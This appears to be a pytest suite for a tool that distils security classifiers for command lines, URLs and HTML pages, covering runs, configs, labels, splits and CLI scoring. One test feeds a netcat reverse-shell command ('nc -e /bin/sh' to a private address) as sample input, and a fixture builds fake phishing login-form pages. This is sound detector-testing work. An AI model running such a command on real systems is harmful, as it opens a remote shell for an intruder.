"""A whole run, end to end, on a tiny user-supplied table (the bring-your-own-data path)."""

from __future__ import annotations

import csv
import json

import numpy as np
import pytest
import yaml
from typer.testing import CliRunner

from distilsec.cli.app import app
from distilsec.config import validate_config
from distilsec.pipeline.run import run_experiment
from tests.conftest import make_texts


def _write_table(path, n=300, multiclass=False):
    texts, labels, groups = make_texts(n, seed=5)
    with open(path, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["event", "verdict", "host"])
        for i, (t, lab, g) in enumerate(zip(texts, labels, groups, strict=True)):
            if multiclass and lab == "malicious" and ("http" in t or "enc" in t):
                lab = "downloader"
            w.writerow([t, lab, f"{g}-{i % 7}"])
    return path


def _config(table, tiny_bert, **extra):
    cfg = {
        "run": {"name": "tiny", "seed": 0, "device": "cpu"},
        "data": {
            "task": "table",
            "path": str(table),
            "text_column": "event",
            "label_column": "verdict",
            "group_column": "host",
        },
        "curation": {"near_dup_threshold": 0.95},
        "split": {"val_fraction": 0.2, "test_fraction": 0.3},
        "teacher": {
            "type": "encoder.v1",
            "model": str(tiny_bert),
            "max_length": 32,
            "epochs": 1,
            "max_train_samples": 200,
            "device": "cpu",
        },
        "students": {
            "student": {
                "type": "char_cnn.v1",
                "max_len": 64,
                "embedding_dim": 8,
                "n_filters": 8,
                "hidden_dims": [16],
                "epochs": 3,
                "batch_size": 32,
                "device": "cpu",
            },
            "linear": {"type": "hashed_linear.v1", "n_features": 4096, "epochs": 3},
        },
        "noise": {"rates": [0.3]},
        "evaluation": {"target_fpr": 0.01, "throughput_sample": 50},
    }
    cfg.update(extra)
    return validate_config(cfg)


def test_run_binary_writes_everything(tmp_path, tiny_bert):
    table = _write_table(tmp_path / "events.csv")
    result = run_experiment(_config(table, tiny_bert), out=tmp_path / "run")
    run = result.run_dir
    for name in ("teacher", "student", "student-hard", "linear", "linear-hard"):
        assert (run / name / "manifest.json").is_file()
        assert list((run / name).glob("*.safetensors"))
        manifest = json.loads((run / name / "manifest.json").read_text())
        assert 0.0 <= manifest["threshold"] <= 1.0 + 1e-9 and manifest["data_fingerprint"]
    for f in ("report.md", "metrics.json", "config.yaml", "env.json", "log.txt", "splits/train.txt"):
        assert (run / f).is_file(), f
    assert list((run / "plots").glob("*.png"))
    metrics = json.loads((run / "metrics.json").read_text())
    for name in ("teacher", "student", "student-hard"):
        m = metrics["models"][name]
        assert {"auc", "macro_f1", "tpr_at_fpr_0.001", "threshold", "tp", "fp"} <= set(m)
    modes = {(r["noise_rate"], r["mode"]) for r in metrics["noise_experiment"]}
    assert (0.3, "distilled") in modes and (0.3, "hard labels") in modes
    report = (run / "report.md").read_text()
    assert "Shortcut audit" in report and "roc.png" in report
    # groups never straddle splits
    split_ids = {p: set((run / "splits" / f"{p}.txt").read_text().split()) for p in ("train", "val", "test")}
    assert not split_ids["train"] & split_ids["test"]

    # the shipped bundle scores through the CLI
    events = tmp_path / "events.txt"
    events.write_text("nc -e /bin/sh 10.0.0.2 9001\nls -la /home/user\n")
    res = CliRunner().invoke(app, ["score", str(events), "--model", str(run / "student")])
    assert res.exit_code == 0, res.output
    rows = [json.loads(line) for line in res.stdout.splitlines() if line.startswith("{")]
    assert len(rows) == 2 and all(r["label"] in ("benign", "malicious") for r in rows)


def test_run_multiclass(tmp_path, tiny_bert):
    table = _write_table(tmp_path / "events.csv", multiclass=True)
    cfg = _config(table, tiny_bert, noise={"rates": []})
    result = run_experiment(cfg, out=tmp_path / "run")
    m = result.metrics["models"]["student"]
    assert len(m["labels"]) == 3 if "labels" in m else True
    proba_cols = json.loads((result.run_dir / "student" / "manifest.json").read_text())["classes"]
    assert proba_cols == ["benign", "downloader", "malicious"]
    assert np.isfinite(m["macro_f1"])


def test_cli_run_reports_config_errors(tmp_path):
    bad = tmp_path / "bad.yaml"
    bad.write_text("data: {task: table}\nteacher: {type: encoder.v1}\nstudents: {}\n")
    res = CliRunner().invoke(app, ["run", str(bad)])
    assert res.exit_code == 2 and "students" in res.output
    res = CliRunner().invoke(app, ["run", str(tmp_path / "missing.yaml")])
    assert res.exit_code == 2 and "not found" in res.output


@pytest.mark.parametrize("name", ["cmdline-distill.yaml", "url-distill.yaml", "html-distill.yaml"])
def test_shipped_configs_validate(name):
    from pathlib import Path

    from distilsec.config import load_config
    from distilsec.registry import get_factory

    cfg = load_config(Path(__file__).resolve().parents[2] / "configs" / name)
    for spec in [cfg.teacher, *cfg.students.values()]:
        get_factory(spec.type)(**spec.params)  # every key is a real constructor argument


def _write_html_index(root, n_brands=8, per_brand=4, n_news=40):
    """A tiny index.csv + pages/*.html.gz: login-form kits per brand (phishing) and news pages (benign)."""
    import gzip

    rng = np.random.default_rng(3)
    words = ["city", "market", "weather", "sport", "review", "story", "photo", "science", "music", "travel"]
    (root / "pages").mkdir(parents=True)
    rows = []
    for b in range(n_brands):
        for k in range(per_brand):
            body = " ".join(rng.choice(words, 30))
            page = (
                f"<html><head><title>Brand{b} - sign in</title></head><body><h1>Brand{b}</h1><p>{body}</p>"
                f'<form action="post{k}.php" method="post"><input type="email" name="user">'
                '<input type="password" name="pass"><button>Sign in</button></form></body></html>'
            )
            rows.append((f"p{b}x{k}", page, "phishing", "kits", f"brand{b}", f"c{b}x{k // 2}"))
    for i in range(n_news):
        body = " ".join(rng.choice(words, 120))
        page = f"<html><head><title>Daily news {i}</title></head><body><article><p>{body}</p></article></body></html>"
        rows.append((f"n{i}", page, "benign", "news", f"site{i % 20}", f"n{i}"))
    with open(root / "index.csv", "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["id", "file", "label", "source", "brand", "near_dup_cluster"])
        for rid, page, label, source, brand, cluster in rows:
            with gzip.open(root / "pages" / f"{rid}.html.gz", "wb") as gz:
                gz.write(page.encode())
            w.writerow([rid, f"pages/{rid}.html.gz", label, source, brand, cluster])
    return root / "index.csv"


def test_run_html_task(tmp_path, tiny_bert):
    index = _write_html_index(tmp_path / "html")
    cfg = validate_config(
        {
            "run": {"name": "tiny-html", "seed": 0, "device": "cpu"},
            "data": {"task": "html", "path": str(index), "max_text_chars": 100_000},
            "curation": {"near_dup_threshold": 0.95, "shingle_max_chars": 65536},
            "split": {"val_fraction": 0.2, "test_fraction": 0.3},
            "teacher": {
                "type": "encoder.v1",
                "model": str(tiny_bert),
                "text_view": "html",
                "max_length": 32,
                "epochs": 1,
                "device": "cpu",
            },
            "students": {
                "student": {
                    "type": "html_inspector.v1",
                    "n_features": 128,
                    "n_chunks": 4,
                    "hidden_dim": 8,
                    "epochs": 5,
                    "device": "cpu",
                },
                "linear": {"type": "hashed_linear.v1", "analyzer": "word", "n_features": 4096, "max_chars": 100_000},
            },
            "evaluation": {"positive": "phishing", "negative": "benign", "target_fpr": 0.01, "throughput_sample": 20},
        }
    )
    result = run_experiment(cfg, out=tmp_path / "run")
    run = result.run_dir
    for name in ("teacher", "student", "student-hard", "linear", "linear-hard"):
        assert (run / name / "manifest.json").is_file()
    manifest = json.loads((run / "student" / "manifest.json").read_text())
    assert manifest["type"] == "html_inspector.v1" and manifest["task"] == "html" and manifest["preprocess"] == "none"
    assert json.loads((run / "teacher" / "manifest.json").read_text())["params"]["text_view"] == "html"
    m = result.metrics["models"]["student"]
    assert m["auc"] is not None and m["events_per_s_1thread"] > 0
    assert "Shortcut audit" in (run / "report.md").read_text()
    # no brand (and no near-duplicate cluster) in two splits
    from distilsec.data.readers import read_html_index

    brand = {e.id: e.meta["brand"] for e in read_html_index(index)}
    split_brands = {
        p: {brand[i] for i in (run / "splits" / f"{p}.txt").read_text().split()} for p in ("train", "val", "test")
    }
    assert not split_brands["train"] & split_brands["test"] and not split_brands["train"] & split_brands["val"]

    # the shipped bundle scores whole pages given as JSONL
    pages = tmp_path / "pages.jsonl"
    pages.write_text(
        json.dumps({"text": "<title>Brand1</title><form action=x.php><input type=password></form>"})
        + "\n"
        + json.dumps({"text": "<title>news</title><p>weather city market</p>"})
        + "\n"
    )
    res = CliRunner().invoke(app, ["score", str(pages), "--model", str(run / "student")])
    assert res.exit_code == 0, res.output
    rows = [json.loads(line) for line in res.stdout.splitlines() if line.startswith("{")]
    assert len(rows) == 2 and all(r["label"] in ("benign", "phishing") for r in rows)


# ---- issue 11: labels, small splits, --out, stdout (fast: hashed n-gram teacher and student) ----


def _write_labelled(path, labels=("benign", "malicious"), n=300, single=False):
    texts, _, groups = make_texts(n, seed=5)
    with open(path, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["event", "verdict", "host"])
        for i, (t, g) in enumerate(zip(texts, groups, strict=True)):
            w.writerow([t, labels[0] if single or i % 2 == 0 else labels[1], f"{g}-{i % 7}"])
    return path


def _fast_config(table, **evaluation):
    return validate_config(
        {
            "run": {"name": "fast", "seed": 0, "device": "cpu"},
            "data": {
                "task": "table",
                "path": str(table),
                "text_column": "event",
                "label_column": "verdict",
                "group_column": "host",
            },
            "teacher": {"type": "hashed_linear.v1", "n_features": 2048, "epochs": 2},
            "students": {"student": {"type": "hashed_linear.v1", "n_features": 1024, "epochs": 2}},
            "method": {"hard_label_baseline": False},
            "evaluation": {"target_fpr": 0.01, "throughput_sample": 0, **evaluation},
        }
    )


def _no_training(monkeypatch):
    """Make any model construction fail: the error under test must come before training."""
    import distilsec.pipeline.stages

    def must_not_train(*_, **__):
        raise AssertionError("training started")

    monkeypatch.setattr(distilsec.pipeline.stages, "create", must_not_train)


def test_single_class_label_column_is_refused_before_training(tmp_path, monkeypatch):
    from distilsec.errors import DataError

    _no_training(monkeypatch)
    table = _write_labelled(tmp_path / "one.csv", single=True)
    with pytest.raises(DataError, match="1 label class"):
        run_experiment(_fast_config(table), out=tmp_path / "run")
    assert not (tmp_path / "run").exists()  # a refused run leaves nothing that would need --overwrite


@pytest.mark.parametrize(("labels", "positive"), [(("0", "1"), "1"), (("good", "bad"), "bad")])
def test_zero_one_and_good_bad_labels_train_and_ship_with_inferred_positive(tmp_path, labels, positive):
    table = _write_labelled(tmp_path / "t.csv", labels=labels)
    result = run_experiment(_fast_config(table), out=tmp_path / "run")
    manifest = json.loads((result.run_dir / "student" / "manifest.json").read_text())
    assert manifest["positive"] == positive and manifest["negative"] == labels[0]
    assert result.metrics["evaluation"] == {"positive": positive, "negative": labels[0]}
    assert result.metrics["models"]["student"]["auc"] is not None
    written = validate_config(yaml.safe_load((result.run_dir / "config.yaml").read_text()))
    assert (written.evaluation.positive, written.evaluation.negative) == (positive, labels[0])


def test_unknown_label_pair_stops_before_training_naming_evaluation_positive(tmp_path, monkeypatch):
    from distilsec.errors import ConfigError

    _no_training(monkeypatch)
    table = _write_labelled(tmp_path / "t.csv", labels=("alpha", "beta"))
    with pytest.raises(ConfigError, match="set evaluation.positive"):
        run_experiment(_fast_config(table), out=tmp_path / "run")


def test_cli_positive_given_as_a_number_is_accepted(tmp_path):
    table = _write_labelled(tmp_path / "t.csv", labels=("0", "1"))
    cfg = tmp_path / "c.yaml"
    cfg.write_text(json.dumps(_fast_config(table).model_dump(mode="json", exclude={"evaluation"})))
    res = CliRunner().invoke(app, ["run", str(cfg), "--out", str(tmp_path / "run"), "--evaluation.positive", "1"])
    assert res.exit_code == 0, res.output
    assert json.loads((tmp_path / "run" / "student" / "manifest.json").read_text())["positive"] == "1"


def test_tiny_split_warns_in_console_report_and_metrics(tmp_path, capsys):
    table = _write_labelled(tmp_path / "ten.csv", n=10)
    result = run_experiment(_fast_config(table), out=tmp_path / "run")
    warnings = result.metrics["warnings"]
    assert warnings and all("fewer than 20 examples of a class" in w for w in warnings)
    assert json.loads((result.run_dir / "metrics.json").read_text())["warnings"] == warnings
    report = (result.run_dir / "report.md").read_text()
    assert report.index("## Warnings") < report.index("## Models") and warnings[0] in report
    assert "fewer than 20 examples" in capsys.readouterr().err


def test_rerun_into_existing_out_needs_overwrite_and_leaves_no_stale_bundles(tmp_path):
    table = _write_labelled(tmp_path / "t.csv")
    cfg = tmp_path / "c.yaml"
    cfg.write_text(json.dumps(_fast_config(table).model_dump(mode="json")))
    out = tmp_path / "run"
    first = CliRunner().invoke(app, ["run", str(cfg), "--out", str(out), "--students.old.type", "hashed_linear.v1"])
    assert first.exit_code == 0, first.output
    assert (out / "old").is_dir()
    again = CliRunner().invoke(app, ["run", str(cfg), "--out", str(out)])
    assert again.exit_code == 2 and "--overwrite" in again.output
    res = CliRunner().invoke(app, ["run", str(cfg), "--out", str(out), "--overwrite"])
    assert res.exit_code == 0, res.output
    assert not (out / "old").exists() and (out / "student" / "manifest.json").is_file()


def test_overwrite_refuses_a_folder_that_is_not_a_run(tmp_path):
    table = _write_labelled(tmp_path / "t.csv")
    precious = tmp_path / "docs"
    precious.mkdir()
    (precious / "thesis.tex").write_text("x")
    with pytest.raises(Exception, match="not a distilsec run folder"):
        run_experiment(_fast_config(table), out=precious, overwrite=True)
    assert (precious / "thesis.tex").read_text() == "x"


def test_run_out_existing_file_is_one_clear_line(tmp_path):
    table = _write_labelled(tmp_path / "t.csv")
    cfg = tmp_path / "c.yaml"
    cfg.write_text(json.dumps(_fast_config(table).model_dump(mode="json")))
    (tmp_path / "afile").write_text("x")
    res = CliRunner().invoke(app, ["run", str(cfg), "--out", str(tmp_path / "afile")])
    assert res.exit_code == 2 and "is a file, not a folder" in res.output and "Traceback" not in res.output


def test_run_stdout_holds_only_the_run_path(tmp_path):
    """`RUN=$(distilsec run ...)` used to capture blank lines before the path."""
    import subprocess
    import sys

    table = _write_labelled(tmp_path / "t.csv")
    cfg = tmp_path / "c.yaml"
    cfg.write_text(json.dumps(_fast_config(table).model_dump(mode="json")))
    out = tmp_path / "run"
    proc = subprocess.run(
        [sys.executable, "-m", "distilsec.cli.app", "run", str(cfg), "--out", str(out)],
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert proc.stdout == f"{out}\n"
    assert "done" in proc.stderr


def test_multiclass_without_an_all_clear_label_stops_before_training(tmp_path, monkeypatch):
    from distilsec.errors import ConfigError

    _no_training(monkeypatch)
    table = tmp_path / "cats.csv"
    with open(table, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["event", "verdict", "host"])
        for i in range(90):
            label = ("games", "news", "shopping")[i % 3]
            w.writerow([f"{label}-site{i}.example", label, f"h{i % 30}"])
    with pytest.raises(ConfigError, match="set evaluation.negative"):
        run_experiment(_fast_config(table), out=tmp_path / "run")


# ---- issue 12: the run composes its stages; an ensemble declares its components ----


def _ensemble_config(table):
    cfg = _fast_config(table).model_dump()
    cfg["teacher"] = {
        "type": "ensemble.v1",
        "members": [
            {"type": "hashed_linear.v1", "n_features": 2048, "epochs": 2},
            {"type": "hashed_linear.v1", "n_features": 1024, "epochs": 1},
        ],
    }
    cfg["method"]["hard_label_baseline"] = True
    cfg["noise"] = {"rates": [0.3]}
    return validate_config(cfg)


def test_ensemble_members_are_evaluated_beside_the_teacher_through_declared_components(tmp_path):
    from distilsec.bundle import load_model
    from distilsec.evaluation import Split, evaluate
    from distilsec.tasks.prepare import prepare_data, resolve_evaluation

    cfg = _ensemble_config(_write_labelled(tmp_path / "t.csv"))
    result = run_experiment(cfg, out=tmp_path / "run")
    models = result.metrics["models"]
    assert list(models) == ["teacher", "teacher-member-0", "teacher-member-1", "student", "student-hard"]
    assert models["teacher-member-1"]["role"] == "teacher member (hashed_linear.v1)"
    # members ship inside the teacher's bundle, not beside it
    assert (result.run_dir / "teacher" / "member-1" / "manifest.json").is_file()
    assert not (result.run_dir / "teacher-member-0").exists()
    # the shipped teacher, evaluated again the one way, gives the run's figures and threshold
    data = prepare_data(cfg)
    view = resolve_evaluation(cfg, data).evaluation
    again = evaluate(
        load_model(result.run_dir / "teacher"),
        Split.from_examples(data.test),
        Split.from_examples(data.val),
        classes=data.classes,
        view=view,
    )
    assert again.threshold == models["teacher"]["threshold"]
    assert {k: again.metrics[k] for k in ("auc", "tp", "fp", "accuracy")} == {
        k: models["teacher"][k] for k in ("auc", "tp", "fp", "accuracy")
    }


def test_noise_rows_are_clean_students_then_each_rate_then_the_teacher(tmp_path):
    cfg = _ensemble_config(_write_labelled(tmp_path / "t.csv"))
    cfg = cfg.model_copy(update={"teacher": _fast_config(tmp_path / "t.csv").teacher})
    rows = run_experiment(cfg, out=tmp_path / "run").metrics["noise_experiment"]
    assert [(r["noise_rate"], r["mode"]) for r in rows] == [
        (0.0, "distilled"),
        (0.0, "hard labels"),
        (0.3, "hard labels"),
        (0.3, "distilled"),
        (None, "teacher"),
    ]
    assert rows[0]["auc"] is not None and rows[-1]["student"] == "teacher"


def test_which_pipeline_runs_is_logged_and_cve_has_its_own(tmp_path):
    from distilsec.pipeline.cve import run_cve
    from distilsec.pipeline.run import _task_pipeline

    result = run_experiment(_fast_config(_write_labelled(tmp_path / "t.csv")), out=tmp_path / "run")
    assert "task table: the distillation pipeline" in (result.run_dir / "log.txt").read_text()
    assert _task_pipeline("cve") is run_cve and _task_pipeline("url") is None


def test_max_per_group_caps_every_group_before_the_split_and_says_how_many_went(tmp_path):
    from collections import Counter

    from distilsec.tasks.prepare import prepare_data

    table = _write_labelled(tmp_path / "t.csv", n=300)
    config = _fast_config(table)
    config.data.max_per_group = 3
    data = prepare_data(config)
    sizes = Counter(ex.group for part in (data.train, data.val, data.test) for ex in part)
    assert max(sizes.values()) <= 3
    assert data.report["capped_per_group"]["cap"] == 3 and data.report["capped_per_group"]["removed"] > 0


def test_the_report_has_a_teacher_check_beside_the_models(tmp_path):
    table = _write_labelled(tmp_path / "t.csv", n=300)
    result = run_experiment(_fast_config(table), out=tmp_path / "run")
    report = (result.run_dir / "report.md").read_text()
    assert report.index("## Models") < report.index("## Teacher check")
    check = result.metrics["teacher_check"]
    assert {r["model"] for r in check["rows"]} >= {"teacher", "student"}
    assert "threshold_transfer" in check


def test_transfer_copies_give_the_students_a_teacher_labelled_transfer_set(tmp_path):
    from distilsec.config import config_hash
    from distilsec.tasks.prepare import prepare_data

    table = _write_labelled(tmp_path / "t.csv", n=200)
    config = _fast_config(table)
    plain_hash = config_hash(config)
    config.method.transfer_copies = 2
    assert config_hash(config) != plain_hash  # unset, the key leaves the hash (shipped configs keep theirs)
    n_train = len(prepare_data(config).train)
    result = run_experiment(config, out=tmp_path / "run")
    log = (result.run_dir / "log.txt").read_text()
    assert f"transfer set: {2 * n_train:,} perturbed training texts (transfer_set.v1, 2 per row)" in log
    assert "transfer_copies: 2" in (result.run_dir / "config.yaml").read_text()
    assert "Transfer set: 2 perturbed copies" in (result.run_dir / "student" / "MODEL_CARD.md").read_text()
